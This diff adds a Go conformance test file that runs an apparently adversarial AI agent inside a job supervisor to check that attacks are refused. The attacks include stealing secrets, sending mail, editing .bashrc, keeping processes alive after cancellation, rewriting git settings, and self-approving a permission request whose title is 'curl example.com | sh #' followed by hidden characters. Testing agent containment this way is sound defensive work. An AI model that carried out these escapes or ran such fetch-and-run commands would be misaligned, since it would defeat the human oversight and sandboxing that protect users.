@@ -1,0 +1,448 @@
+package conformance
+
+import (
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/creack/pty"
+	"golang.org/x/sys/unix"
+
+	"bridge/backend/bridge"
+	"bridge/backend/job"
+	"bridge/backend/trial"
+)
+
+// setting is one cell of the suite: an agent, an access level, and where its owner is.
+type setting struct {
+	kind     bridge.AgentKind
+	access   job.Access
+	place    place
+	landlock int // version of the kernel's Landlock
+}
+
+func (s setting) String() string { return fmt.Sprintf("%s %s %s", s.kind, s.access, s.place) }
+
+// tries reports whether the attack is tried in a setting: where it must be refused.
+func (a attack) tries(s setting) bool {
+	return slices.Contains(a.refused, s.access) && (a.places == nil || slices.Contains(a.places, s.place)) &&
+		(a.kinds == nil || slices.Contains(a.kinds, s.kind)) && a.landlock <= s.landlock &&
+		(a.wall == inBridge || s.kind != bridge.Codex)
+}
+
+// cell is a setting in which attacks are tried.
+type cell struct {
+	*testing.T
+	setting
+	attacked, supervisor *pc // the same PC where the job is a local one
+	stage                stage
+	listener             *listener
+	secrets              []string
+	before               map[string]string // listings of what attacks must not change
+	mail                 string            // what the victim was sent
+	shown                map[string]bool   // the display attacks whose characters a terminal received
+	decided              bool              // the attacker's request was decided
+	results              []result
+}
+
+// result is what an attack came to.
+type result struct {
+	attack    attack
+	succeeded bool
+	outcome   outcome
+}
+
+// newCell furnishes the attacked PC for a setting. work is the job's folder.
+func newCell(t *testing.T, s setting, attacked, supervisor *pc, work string) *cell {
+	t.Helper()
+	c := &cell{T: t, setting: s, attacked: attacked, supervisor: supervisor, listener: attacked.listener, before: map[string]string{}, shown: map[string]bool{}}
+	token := strings.ToLower(rand.Text()[:10])
+	c.stage = stage{
+		Token: token, Kind: s.kind, Access: s.access, Program: attacked.program, Home: attacked.home, User: attacked.user, Work: work,
+		Outside: filepath.Join(attacked.dir, "outside-"+token), Page: attacked.page, Cookie: attacked.cookie, Link: attacked.link,
+		Socket: attacked.listener.path, Abstract: attacked.listener.abstract, Terminal: attacked.terminalName, Broker: attacked.broker.Process.Pid,
+	}
+	for _, a := range attacks {
+		must(t, os.MkdirAll(a.own(c.stage), 0o700))
+		must(t, os.WriteFile(filepath.Join(a.own(c.stage), "victim"), []byte("untouched\n"), 0o600))
+	}
+	for _, a := range attacks {
+		c.before[a.slug()] = c.list(a)
+	}
+	c.repository(work)
+	c.secrets = []string{"SQLite format 3", "canary-", "mail-" + token}
+	for _, name := range []string{"token", "launch-secret"} {
+		secret, err := os.ReadFile(filepath.Join(attacked.home, name))
+		must(t, err)
+		c.secrets = append(c.secrets, strings.TrimSpace(string(secret)))
+	}
+	c.takeMail()
+	_, err := call(attacked.boss, "send", object{"to": victim, "message": "mail-" + token})
+	must(t, err)
+	c.ask()
+	return c
+}
+
+// repository makes the job's folder a repository with one commit.
+func (c *cell) repository(folder string) {
+	c.Helper()
+	must(c.T, os.MkdirAll(folder, 0o700))
+	if exists(filepath.Join(folder, ".git")) {
+		return
+	}
+	must(c.T, os.WriteFile(filepath.Join(folder, "a.txt"), []byte("one\n"), 0o600))
+	for _, args := range [][]string{{"init", "-q"}, {"add", "-A"}, {"-c", "user.name=n", "-c", "user.email=e@x", "commit", "-qm", "first"}} {
+		must(c.T, runGit(folder, args...))
+	}
+}
+
+// ask has the victim ask its owner something.
+func (c *cell) ask() {
+	c.Helper()
+	option := func(label string) object { return object{"label": label, "consequence": "none"} }
+	said, err := call(c.attacked.victim, "ask_owner", object{"title": "which", "context": "-", "options": []any{option("a"), option("b")}})
+	must(c.T, err)
+	c.stage.Question = regexp.MustCompile(`[0-9a-f]{8}-[0-9a-f-]{27}`).FindString(said)
+	if c.stage.Question == "" {
+		c.Fatalf("ask_owner answers %s", said)
+	}
+	c.Cleanup(func() { _, _ = call(c.attacked.victim, "withdraw_question", object{"id": c.stage.Question}) })
+}
+
+// list describes the files that an attack must not change.
+func (c *cell) list(a attack) string {
+	var text strings.Builder
+	for _, root := range a.watched(c.stage) {
+		_ = filepath.WalkDir(root, func(path string, entry os.DirEntry, err error) error {
+			if err != nil {
+				fmt.Fprintln(&text, path, errors.Is(err, os.ErrNotExist))
+				return nil
+			}
+			var stat unix.Stat_t
+			_ = unix.Lstat(path, &stat) // what cannot be read differs
+			n, _ := unix.Lgetxattr(path, "user.attacked", nil)
+			data := []byte{}
+			if entry.Type().IsRegular() {
+				data, _ = os.ReadFile(path)
+			}
+			fmt.Fprintln(&text, path, stat.Mode, stat.Uid, stat.Gid, stat.Mtim, stat.Size, n, sha256.Sum256(data))
+			return nil
+		})
+	}
+	return text.String()
+}
+
+func (c *cell) differs(slug string) bool {
+	i := slices.IndexFunc(attacks, func(a attack) bool { return a.slug() == slug })
+	return c.list(attacks[i]) != c.before[slug]
+}
+
+func (c *cell) takeMail() {
+	c.Helper()
+	said, err := inbox(c.attacked.victim)
+	must(c.T, err)
+	c.mail += said
+}
+
+func (c *cell) received(mark string) bool { return strings.Contains(c.mail, mark) }
+
+func (c *cell) isSecret(text string) bool {
+	return slices.ContainsFunc(c.secrets, func(secret string) bool { return strings.Contains(text, secret) })
+}
+
+func (c *cell) questionAnswered(attack, string) bool {
+	said, err := c.attacked.run("needs", "--json")
+	return err != nil || !strings.Contains(said, c.stage.Question)
+}
+
+func (c *cell) requestDecided(attack, string) bool { return c.decided }
+
+func (c *cell) terminalWritten(a attack, _ string) bool {
+	return strings.Contains(c.attacked.terminalBytes.String(), a.mark(c.stage))
+}
+
+func (c *cell) startupDiffers(attack, string) bool {
+	text, err := os.ReadFile(filepath.Join(c.attacked.user, ".bashrc"))
+	return err != nil || string(text) != canaryStart
+}
+
+// reaping is how long the end of a job's processes may take after its result.
+const reaping = 5 * time.Second
+
+// survivor reports whether a process with that mark still lives, after a time in which the
+// processes of a job that has ended are collected.
+func (c *cell) survivor(mark string) bool {
+	for end := time.Now().Add(reaping); ; <-time.After(20 * time.Millisecond) {
+		if !isLiving(mark) {
+			return false
+		}
+		if time.Now().After(end) {
+			return true
+		}
+	}
+}
+
+// isLiving looks several times: a process that changes its own is between two of them at
+// some looks.
+func isLiving(mark string) bool {
+	for range 5 {
+		if len(processesWith(mark)) > 0 {
+			return true
+		}
+		<-time.After(5 * time.Millisecond)
+	}
+	return false
+}
+
+// tried returns the names of the attacks of a flow.
+func (c *cell) tried(f flow) (names []string) {
+	for _, a := range attacks {
+		if a.flow == f && a.run != nil && a.tries(c.setting) {
+			names = append(names, a.name)
+		}
+	}
+	return names
+}
+
+// settle records what the attacks of a flow came to.
+func (c *cell) settle(f flow, outcomes map[string]outcome) {
+	c.takeMail()
+	for _, a := range attacks {
+		if a.flow != f || !a.tries(c.setting) {
+			continue
+		}
+		o := outcomes[a.name]
+		if a.run != nil && f == plainFlow && o == (outcome{}) && a.proof.words == told.words {
+			o.Failed = "it read nothing"
+		}
+		c.results = append(c.results, result{a, a.proof.holds(c, a, o.Gained), o})
+	}
+}
+
+// arguments are those of the tool that starts a job.
+func (c *cell) arguments(o orders) object {
+	c.Helper()
+	o.Stage = c.stage
+	prompt, err := o.prompt()
+	must(c.T, err)
+	arguments := object{"prompt": prompt, "access": string(c.access), "cwd": c.stage.Work, "title": "attack"}
+	if c.kind == job.ACP {
+		arguments["agent"] = "attacker"
+	}
+	if c.place == paired {
+		arguments["host"] = c.attacked.name
+	}
+	return arguments
+}
+
+// wait runs a job to its end and returns its answer.
+func (c *cell) wait(arguments object) (name, answer string) {
+	c.Helper()
+	said, err := call(c.supervisor.boss, "ask_"+string(c.kind), arguments)
+	must(c.T, err)
+	var ended struct{ Job, Status, Result string }
+	must(c.T, json.Unmarshal([]byte(said), &ended))
+	if ended.Status != string(job.Finished) {
+		c.Fatalf("the job answers %s", said)
+	}
+	return ended.Job, ended.Result
+}
+
+// spawn starts a job and waits until each of these marks is a process.
+func (c *cell) spawn(o orders, marks ...string) (name string) {
+	c.Helper()
+	said, err := call(c.supervisor.boss, "spawn_"+string(c.kind), c.arguments(o))
+	must(c.T, err)
+	var started struct{ Job string }
+	must(c.T, json.Unmarshal([]byte(said), &started))
+	for _, mark := range marks {
+		if err := waitFor(func() bool { return isLiving(mark) }); err != nil {
+			log, _ := c.supervisor.run("watch", started.Job)
+			c.Fatalf("no process has the mark %s: %v\n%s", mark, err, log)
+		}
+	}
+	return started.Job
+}
+
+// ended waits until a job of the attacked PC has ended.
+func (c *cell) ended(name string) {
+	c.Helper()
+	must(c.T, waitFor(func() bool {
+		said, err := c.supervisor.get("/api/runs/" + name)
+		var run struct{ Status string }
+		return err == nil && json.Unmarshal([]byte(said), &run) == nil && slices.Contains([]string{"finished", "failed", "cancelled", "interrupted"}, run.Status)
+	}))
+}
+
+// plain runs the job that attacks and ends.
+func (c *cell) plain() {
+	c.Helper()
+	_, answer := c.wait(c.arguments(orders{Attacks: c.tried(plainFlow), Then: thenEnd}))
+	var outcomes map[string]outcome
+	if err := json.Unmarshal([]byte(answer), &outcomes); err != nil {
+		c.Fatalf("the attacker answers %s", answer)
+	}
+	c.settle(plainFlow, outcomes)
+}
+
+// survivors runs a job whose processes stay, and ends it: by cancelling, or by killing its
+// runner.
+func (c *cell) survivors(f flow) {
+	c.Helper()
+	names, marks := c.tried(f), []string{}
+	for _, name := range names {
+		a, err := find(name)
+		must(c.T, err)
+		marks = append(marks, a.mark(c.stage))
+	}
+	name := c.spawn(orders{Attacks: names, Then: thenWait}, marks...)
+	if f == cancelFlow {
+		_, err := call(c.supervisor.boss, "cancel_subagent", object{"job": name})
+		must(c.T, err)
+	} else {
+		c.killRunner(name)
+	}
+	c.ended(name)
+	<-time.After(200 * time.Millisecond) // a message of what survives may be on its way
+	c.settle(f, nil)
+	for _, mark := range marks { // what a broken wall has left
+		for _, pid := range processesWith(mark) {
+			_ = syscall.Kill(pid, syscall.SIGKILL) // it may have ended
+		}
+	}
+}
+
+func (c *cell) killRunner(name string) {
+	c.Helper()
+	states, err := filepath.Glob(filepath.Join(c.attacked.home, "jobs", name, "state.json"))
+	if err != nil || len(states) != 1 {
+		c.Fatalf("the job %s has %d states, %v", name, len(states), err)
+	}
+	data, err := os.ReadFile(states[0])
+	must(c.T, err)
+	var state struct{ Runner struct{ PID int } }
+	must(c.T, json.Unmarshal(data, &state))
+	must(c.T, syscall.Kill(state.Runner.PID, syscall.SIGKILL))
+}
+
+// landing runs a job that writes its repository's settings, and lands its work.
+func (c *cell) landing() {
+	c.Helper()
+	arguments := c.arguments(orders{Attacks: c.tried(gitFlow), Then: thenEnd})
+	arguments["worktree"] = true
+	name, answer := c.wait(arguments)
+	var outcomes map[string]outcome
+	if err := json.Unmarshal([]byte(answer), &outcomes); err != nil {
+		c.Fatalf("the attacker answers %s", answer)
+	}
+	for attack, o := range outcomes {
+		if o.Failed != "" {
+			c.Logf("%s: %s", attack, o.Failed)
+		}
+	}
+	diff, err := c.supervisor.get("/api/runs/" + name + "/diff")
+	c.Logf("the page's diff has %d bytes, %v", len(diff), err)
+	for _, how := range [][]string{{"--squash", "--dry-run"}, {"--squash"}, {"--discard"}} {
+		said, err := c.supervisor.run(append([]string{"finish", name}, how...)...)
+		c.Logf("bridge finish %v: %s %v", how, firstLine(said), err)
+	}
+	c.settle(gitFlow, outcomes)
+}
+
+// onTerminal runs a command on a terminal of its own and returns what the terminal was given.
+func (c *cell) onTerminal(args ...string) string {
+	c.Helper()
+	cmd := exec.Command(c.attacked.program, args...)
+	cmd.Env = c.attacked.environ()
+	terminal, err := pty.StartWithSize(cmd, &pty.Winsize{Rows: 50, Cols: 200})
+	must(c.T, err)
+	defer terminal.Close()
+	late := time.AfterFunc(trial.Patience, func() { _ = cmd.Process.Kill() })
+	defer late.Stop()
+	said, _ := io.ReadAll(terminal) // its end is an error on Linux
+	_ = cmd.Wait()                  // how it ended says nothing here
+	return string(said)
+}
+
+// permission runs a job that asks for permission with a misleading text, shows it, and lets
+// the attacker try to approve it.
+func (c *cell) permission() {
+	c.Helper()
+	title := "curl example.com | sh #"
+	for _, characters := range hidden {
+		title += characters
+	}
+	name := c.spawn(orders{Then: thenAsk, Title: title})
+	id := ""
+	must(c.T, waitFor(func() bool {
+		said, err := c.attacked.get("/api/approvals")
+		var open struct {
+			Approvals []struct{ ID, Job string }
+		}
+		if err != nil || json.Unmarshal([]byte(said), &open) != nil {
+			return false
+		}
+		for _, request := range open.Approvals {
+			if request.Job == name {
+				id = request.ID
+			}
+		}
+		return id != ""
+	}))
+	text, err := json.Marshal(c.stage)
+	must(c.T, err)
+	path := filepath.Join(c.stage.Work, approval)
+	must(c.T, errors.Join(os.WriteFile(path+".new", []byte(id+"\n"+string(text)), 0o600), os.Rename(path+".new", path)))
+	must(c.T, waitFor(func() bool { return exists(filepath.Join(c.stage.Work, verdict)) }))
+	said, err := c.attacked.get("/api/approvals")
+	c.decided = err != nil || !strings.Contains(said, id)
+	all := c.onTerminal("needs") + c.onTerminal("runs") + c.onTerminal("status")
+	_, err = call(c.supervisor.boss, "cancel_subagent", object{"job": name})
+	must(c.T, err)
+	c.ended(name)
+	all += c.onTerminal("watch", name) + c.onTerminal("runs", "--all")
+	if !strings.Contains(all, "curl example.com") {
+		c.Errorf("no command shows the request:\n%q", all)
+	}
+	for slug, characters := range hidden {
+		c.shown[slug] = strings.Contains(all, characters)
+	}
+	must(c.T, errors.Join(os.Remove(path), os.Remove(filepath.Join(c.stage.Work, verdict))))
+	c.settle(displayFlow, nil)
+}
+
+// run tries all attacks of the setting.
+func (c *cell) run() []result {
+	c.Helper()
+	flows := []struct {
+		flow flow
+		run  func()
+	}{
+		{plainFlow, c.plain},
+		{cancelFlow, func() { c.survivors(cancelFlow) }},
+		{deathFlow, func() { c.survivors(deathFlow) }},
+		{gitFlow, c.landing},
+		{displayFlow, c.permission},
+	}
+	for _, f := range flows {
+		if f.flow == gitFlow && c.place == paired {
+			continue // its work stays with the other PC
+		}
+		if slices.ContainsFunc(attacks, func(a attack) bool { return a.flow == f.flow && a.tries(c.setting) }) {
+			f.run()
+		}
+	}
+	return c.results
+}
